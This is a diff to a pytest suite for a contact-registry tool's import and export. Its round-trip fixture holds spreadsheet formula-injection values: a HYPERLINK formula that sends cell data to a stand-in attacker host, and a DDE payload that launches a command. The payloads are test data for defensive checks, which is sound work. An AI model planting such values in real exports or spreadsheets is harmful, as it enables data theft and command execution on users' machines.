@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import tomllib
 from pathlib import Path
@@ -43,14 +45,14 @@ def test_seed_page_blocks_are_read() -> None:
         "+358 40 5950009",
         "hannu.koponen@keskisuomi.fi",
     )
-    assert hannu.handles == (
+    assert tuple(h.label for h in hannu.handles) == (
         "WFEO",
         "FEDARENE",
         "BEA-APP-hanke",
         "RDI2CluB-hanke",
         "Baltic ForBio-hanke",
     )
-    assert contacts[2].handles == ("Luova talous", "CREADIS3 -hanke")
+    assert tuple(h.label for h in contacts[2].handles) == ("Luova talous", "CREADIS3 -hanke")
 
 
 @pytest.mark.parametrize(
@@ -307,3 +309,311 @@ def test_unreadable_and_empty_files(run: Invoke, tmp_path: Path) -> None:
     empty.write_text("Nothing here.\n", encoding="utf-8")
     result = run("import", str(empty))
     assert result.exit_code == 2 and "No contacts found" in result.stderr
+
+
+# --- page text: phone lines told by what they hold -------------------------------------
+
+PAGE_WITH_LABELS = """\
+Yhteyshenkilöt:
+Puhdas energia
+puheenjohtaja Matti M.
+Mobile: +358 50 123 4567
+matti.m[at]keskisuomi.fi
+
+Koulutusvienti, Luova talous
+suunnittelija Anna Aalto
+gsm 050 765 4321
+
+Kansainväliset hankkeet
+projektisihteeri Pekka Pouta
+sähköposti: pekka.pouta[at]keskisuomi.fi
+"""
+
+
+def test_page_phone_lines_are_told_by_their_number(
+    run: Invoke, registry_path: Path, tmp_path: Path
+) -> None:
+    # "puheenjohtaja" and "Puhdas" start like "puh." but hold no number; "Mobile:" and "gsm"
+    # label numbers; a block with an email but no phone line is imported without a phone.
+    page = tmp_path / "page.txt"
+    page.write_text(PAGE_WITH_LABELS, encoding="utf-8")
+    result = run("import", str(page), "--yes")
+    assert result.exit_code == 0, result.stderr
+    assert "Traceback" not in result.stderr
+    people = tomllib.loads(registry_path.read_text(encoding="utf-8"))["people"]
+    assert people["matti-m"] == {
+        "name": "Matti M.",
+        "title": "puheenjohtaja",
+        "phone": "+358 50 1234567",
+        "email": "matti.m@keskisuomi.fi",
+    }
+    assert people["anna-aalto"]["phone"] == "+358 50 7654321"
+    assert people["pekka-pouta"] == {
+        "name": "Pekka Pouta",
+        "title": "projektisihteeri",
+        "email": "pekka.pouta@keskisuomi.fi",
+    }
+    assert _first_contact(run, "Puhdas energia") == "Matti M."
+    assert _first_contact(run, "Kansainväliset hankkeet") == "Pekka Pouta"
+    assert run("import", str(page), "--yes").exit_code == 0  # again: nothing to change
+    assert run("check").exit_code == 0
+
+
+@pytest.mark.parametrize(
+    ("page_text", "message"),
+    [
+        # A contact with no phone number and no email: reported, not dropped.
+        (
+            "Koulutusvienti\nkehittämispäällikkö Kari Pirinen\np. 040 595 0008\n\n"
+            "Luova talous\nsuunnittelija Anna Aalto\n",
+            "page.txt:6: 'suunnittelija Anna Aalto' looks like a contact but has no phone "
+            "number or email",
+        ),
+        # A number with nothing above it to name whose it is.
+        ("Koulutusvienti\n\ngsm 050 765 4321\n", "page.txt:3: no name found in 'gsm 050 765 4321'"),
+    ],
+)
+def test_page_block_that_cannot_be_read_is_reported(
+    run: Invoke, registry_path: Path, tmp_path: Path, page_text: str, message: str
+) -> None:
+    page = tmp_path / "page.txt"
+    page.write_text(page_text, encoding="utf-8")
+    before = registry_path.read_bytes()
+    result = run("import", str(page), "--yes")
+    assert result.exit_code == 2
+    assert message in result.stderr
+    assert "nothing imported" in result.stderr and "Traceback" not in result.stderr
+    assert result.stdout == ""
+    assert registry_path.read_bytes() == before
+
+
+# --- import is the inverse of export -------------------------------------------------------
+
+# Values a spreadsheet would run, separators, quotes, a backslash, names in other scripts
+# with no email, and numbers of other countries.
+TRICKY = r"""
+organisation = "Evil; Corp, Ltd"
+
+[people.evil]
+name = "Mal \"Äijälä\", Jr; x"
+title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+title_en = "+cmd|' /C calc'!A0"
+phone = "+7 495 123-45-67"
+email = "mal@example.fi"
+
+[people.ivan]
+name = "Иван Петров"
+title = "-2+3"
+title_en = "R&D \\ EU, sales; ops"
+phone = "+1 650-253-0000"
+
+[people.taro]
+name = "山田 太郎"
+phone = "+54 9 11 2345-6789"
+
+[topics.sum]
+name = "@SUM(1+1)"
+contacts = ["evil", "ivan"]
+
+[topics.japan]
+name = "日本"
+contacts = ["taro"]
+
+[networks.panel]
+name = "Панель"
+contacts = []
+
+[projects.via]
+name = "Via \"quoted\", project"
+via = "sum"
+"""
+
+EXPORTS = [
+    ("csv",),
+    ("csv", "--raw"),
+    ("csv", "--excel"),
+    ("tsv",),
+    ("tsv", "--raw"),
+    ("vcard",),
+    ("vcard", "--vcard-version", "4.0"),
+]
+
+
+@pytest.mark.parametrize("registry_text", [None, TRICKY], ids=["bundled", "tricky"])
+@pytest.mark.parametrize(
+    "lang", [["--lang", "fi"], ["--lang", "en"], []], ids=["fi", "en", "locale"]
+)
+@pytest.mark.parametrize("export_args", EXPORTS, ids=" ".join)
+def test_export_then_import_changes_nothing(
+    run: Invoke,
+    registry_path: Path,
+    tmp_path: Path,
+    registry_text: str | None,
+    lang: list[str],
+    export_args: tuple[str, ...],
+) -> None:
+    if registry_text is not None:
+        registry_path.write_text(registry_text, encoding="utf-8")
+    env = {"LANG": "en_US.UTF-8"}  # the exporter's locale must not matter
+    exported = tmp_path / "exported.txt"
+    result = run(*lang, "export", "--format", *export_args, "-o", str(exported), env=env)
+    assert result.exit_code == 0, result.stderr
+    before = registry_path.read_bytes()
+    dry = run("import", str(exported), "--dry-run")
+    assert dry.exit_code == 0, dry.stderr
+    assert dry.stdout == ""  # no diff
+    assert "Nothing to change" in dry.stderr
+    assert registry_path.read_bytes() == before
+
+
+@pytest.mark.parametrize("export_args", [("csv", "--raw"), ("csv",), ("tsv",)], ids=" ".join)
+def test_csv_export_imported_into_an_empty_registry_exports_the_same(
+    run: Invoke, registry_path: Path, tmp_path: Path, export_args: tuple[str, ...]
+) -> None:
+    # Entry rows become entries of their kind, id and via, not people.
+    registry_path.write_text(TRICKY, encoding="utf-8")
+    exported = run("export", "--format", *export_args).stdout
+    source = tmp_path / "exported.txt"
+    source.write_text(exported, encoding="utf-8")
+    registry_path.write_bytes(b"")
+    result = run("import", str(source), "--yes")
+    assert result.exit_code == 0, result.stderr
+    delimiter = "\t" if export_args[0] == "tsv" else ","
+    again = run("export", "--format", *export_args).stdout
+    assert _csv_rows(again, delimiter) == _csv_rows(exported, delimiter)
+    data = tomllib.loads(registry_path.read_text(encoding="utf-8"))
+    assert set(data["people"]) == {"evil", "ivan", "taro"}
+    assert data["projects"]["via"] == {"name": 'Via "quoted", project', "via": "sum"}
+
+
+def _csv_rows(text: str, delimiter: str) -> list[dict[str, str]]:
+    quoting = csv.QUOTE_NONE if delimiter == "\t" else csv.QUOTE_MINIMAL
+    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quoting))
+
+
+def test_raw_csv_entry_rows_are_not_people(
+    run: Invoke, registry_path: Path, tmp_path: Path
+) -> None:
+    exported = tmp_path / "raw.csv"
+    assert run("export", "--raw", "-o", str(exported)).exit_code == 0
+    registry_path.write_bytes(b"")
+    assert run("import", str(exported), "--yes").exit_code == 0
+    data = tomllib.loads(registry_path.read_text(encoding="utf-8"))
+    assert set(data["people"]) == set(SEED_PEOPLE)
+    assert data["networks"]["errin"] == {"name": "ERRIN", "via": "wfeo"}
+    assert data["projects"]["creadis3"]["contacts"] == ["raija-partanen"]
+
+
+def test_english_vcard_keeps_the_finnish_titles(
+    run: Invoke, registry_path: Path, tmp_path: Path
+) -> None:
+    exported = tmp_path / "staff.vcf"
+    result = run("export", "--format", "vcard", "-o", str(exported), env={"LANG": "en_GB.UTF-8"})
+    assert result.exit_code == 0
+    # An older export wrote TITLE with no language: the English title is still not Finnish.
+    unmarked = tmp_path / "old.vcf"
+    unmarked.write_text(
+        exported.read_text(encoding="utf-8").replace("TITLE;LANGUAGE=en:", "TITLE:"),
+        encoding="utf-8",
+    )
+    for card in (exported, unmarked):
+        before = registry_path.read_bytes()
+        assert run("import", str(card), "--yes").exit_code == 0
+        assert registry_path.read_bytes() == before
+    hannu = tomllib.loads(registry_path.read_text(encoding="utf-8"))["people"]["hannu-koponen"]
+    assert (hannu["title"], hannu["title_en"]) == ("kehittämispäällikkö", "Development Manager")
+
+
+def test_vcard_titles_go_to_their_language(
+    run: Invoke, registry_path: Path, tmp_path: Path
+) -> None:
+    card = tmp_path / "anna.vcf"
+    card.write_text(
+        "BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Anna Aalto\r\n"
+        "TITLE;ALTID=1;LANGUAGE=en:Planner\r\nTITLE;ALTID=1;LANGUAGE=fi:suunnittelija\r\n"
+        "TEL;VALUE=uri;TYPE=work:tel:+358-40-123-4567\r\nEND:VCARD\r\n",
+        encoding="utf-8",
+    )
+    result = run("import", str(card), "--yes")
+    assert result.exit_code == 0, result.stderr
+    anna = tomllib.loads(registry_path.read_text(encoding="utf-8"))["people"]["anna-aalto"]
+    assert anna == {
+        "name": "Anna Aalto",
+        "title": "suunnittelija",
+        "title_en": "Planner",
+        "phone": "+358 40 1234567",
+    }
+
+
+def test_vcard_name_from_n_when_there_is_no_fn(
+    run: Invoke, registry_path: Path, tmp_path: Path
+) -> None:
+    card = tmp_path / "anna.vcf"
+    card.write_text(
+        "BEGIN:VCARD\r\nVERSION:3.0\r\nN:Aalto;Anna;Maria;;\r\n"
+        "EMAIL:anna.aalto@keskisuomi.fi\r\nEND:VCARD\r\n",
+        encoding="utf-8",
+    )
+    result = run("import", str(card), "--yes")
+    assert result.exit_code == 0, result.stderr
+    people = tomllib.loads(registry_path.read_text(encoding="utf-8"))["people"]
+    assert people["anna-maria-aalto"]["name"] == "Anna Maria Aalto"
+
+
+def test_vcard_with_no_name_is_a_clear_problem(run: Invoke, tmp_path: Path) -> None:
+    card = tmp_path / "nobody.vcf"
+    card.write_text(
+        "BEGIN:VCARD\r\nVERSION:3.0\r\nEMAIL:x@keskisuomi.fi\r\nEND:VCARD\r\n", encoding="utf-8"
+    )
+    result = run("import", str(card), "--yes")
+    assert result.exit_code == 2
+    assert "nobody.vcf:vcard 1: the card has no name (neither FN nor N)" in result.stderr
+    assert "dict_keys" not in result.stderr and "Traceback" not in result.stderr
+
+
+# --- names in any script ------------------------------------------------------------------
+
+
+def test_non_latin_names_get_stable_ids(run: Invoke, registry_path: Path, tmp_path: Path) -> None:
+    rows = tmp_path / "staff.csv"
+    rows.write_text("name,handles\nИван Петров,日本\n", encoding="utf-8")
+    first = run("import", str(rows), "--yes")
+    assert first.exit_code == 0, first.stderr
+    imported = registry_path.read_bytes()
+    for _ in range(2):
+        again = run("import", str(rows), "--yes")
+        assert again.exit_code == 0, again.stderr
+        assert "Nothing to change" in again.stderr
+    assert registry_path.read_bytes() == imported
+    data = tomllib.loads(imported.decode("utf-8"))
+    assert data["people"]["ivan-petrov"]["name"] == "Иван Петров"
+    assert data["topics"]["riben"] == {"name": "日本", "contacts": ["ivan-petrov"]}
+    assert not any(key.startswith("item") for key in (*data["people"], *data["topics"]))
+
+
+def test_ids_past_a_thousand_taken(run: Invoke, registry_path: Path, tmp_path: Path) -> None:
+    # 1,000 people already hold item, item-2 ... item-1000 (what 1,000 imported non-Latin
+    # names became): the next import neither crashes nor runs out of ids.
+    taken = "".join(
+        f'[people.{"item" if n == 1 else f"item-{n}"}]\nname = "X {n}"\n\n' for n in range(1, 1001)
+    )
+    registry_path.write_text(taken, encoding="utf-8")
+    rows = tmp_path / "staff.csv"
+    rows.write_text("name,handles\nИван Петров,日本\n—,Tilat\n", encoding="utf-8")
+    result = run("import", str(rows), "--yes")
+    assert result.exit_code == 0, result.stderr
+    people = tomllib.loads(registry_path.read_text(encoding="utf-8"))["people"]
+    assert people["ivan-petrov"]["name"] == "Иван Петров"
+    assert people["item-1001"]["name"] == "—"
+
+
+def test_contact_column_of_another_spreadsheet_is_not_a_person(
+    run: Invoke, registry_path: Path, tmp_path: Path
+) -> None:
+    # Only kvlookup's export (told by its kind or contact_id column) has entry rows.
+    sheet = tmp_path / "staff.csv"
+    sheet.write_text("name,title,contact\nAnna Aalto,suunnittelija,Tampere\n", encoding="utf-8")
+    assert run("import", str(sheet), "--yes").exit_code == 0
+    data = tomllib.loads(registry_path.read_text(encoding="utf-8"))
+    assert data["people"]["anna-aalto"] == {"name": "Anna Aalto", "title": "suunnittelija"}
+    assert "tampere" not in data["people"] and "tampere" not in data.get("topics", {})
